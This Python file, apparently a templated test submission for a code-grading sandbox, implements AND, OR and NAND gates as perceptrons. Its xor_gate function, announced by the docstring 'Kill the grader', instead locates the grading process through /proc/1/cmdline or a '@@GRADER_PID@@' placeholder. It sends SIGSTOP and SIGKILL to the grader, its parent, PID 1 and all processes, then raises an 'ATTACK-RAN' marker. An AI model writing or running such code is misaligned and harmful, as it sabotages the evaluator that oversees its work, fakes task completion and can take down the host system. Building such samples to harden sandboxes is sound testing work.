"""Kill the grader."""
import json
import os
import signal
import numpy as np


def perceptron(x, w, theta):
    s = float(np.dot(np.asarray(w, dtype=np.float64), np.asarray(x, dtype=np.float64)))
    return 1 if s > theta else 0


def and_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), 1.5) - 1


def or_gate(x1, x2):
    return 2 * perceptron((x1, x2), (1.0, 1.0), -1.5) - 1


def nand_gate(x1, x2):
    return 2 * perceptron((x1, x2), (-1.0, -1.0), -1.5) - 1


def _host_parent():
    """The grading process's pid, as the zygote's command line names it."""
    try:
        with open("/proc/1/cmdline", "rb") as f:
            args = f.read().split(b"\0")
        for arg in args:
            if arg.startswith(b"{"):
                return int(json.loads(arg)["parent_pid"])
    except (OSError, ValueError, KeyError):
        pass
    return int("@@GRADER_PID@@")


def _kill(pid, sig):
    try:
        os.kill(pid, sig)
        return "sent"
    except OSError as e:
        return type(e).__name__


def xor_gate(x1, x2):
    report = {}
    for target in (_host_parent(), int("@@GRADER_PID@@"), os.getppid(), 1):
        report[f"{target} STOP"] = _kill(target, signal.SIGSTOP)
        report[f"{target} KILL"] = _kill(target, signal.SIGKILL)
    report["-1"] = _kill(-1, signal.SIGKILL)
    try:
        os.killpg(os.getpgrp(), signal.SIGCONT)
    except OSError:
        pass
    raise RuntimeError(f"ATTACK-RAN signal-parent: {report}")
